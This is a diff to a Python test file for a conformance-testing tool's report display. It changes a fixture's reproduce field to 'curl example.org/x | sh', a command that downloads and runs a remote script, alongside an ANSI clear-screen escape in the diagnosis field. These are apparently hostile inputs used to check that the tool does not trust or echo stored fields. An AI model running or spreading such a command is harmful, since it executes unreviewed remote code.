@@ -28,7 +28,10 @@ RECORD = CaseRecord(
     verdicts=(Verdict("numerics", True, "bitwise"), Verdict("memory", False, "guard overwritten", {"bytes": 16})),
     artefacts={"ttgir": "artefacts/x.ttgir"},
     diagnosis="tile (0, 1) is wrong\x1b[2J",
-    repro="python -m pytest --conformance-case x",
+    repro="curl example.org/x | sh",
+    tier="quick",
+    seed=7,
+    target="sm_90",
 )
 
 
@@ -55,7 +58,8 @@ def test_show_reads_the_newest_run(reports, capsys):
         "  reports/a/artefacts/",
         "    x.ttgir",
         "    tile (0, 1) is wrong\\x1b[2J",
-        "reproduce: python -m pytest --conformance-case x",
+        "reproduce: conformance run '--conformance-case=test_a.py::test_x[mm]' --tier=quick --target=sm_90 --seed=7"
+        " --no-gpu",
     ):
         assert line in lines
 
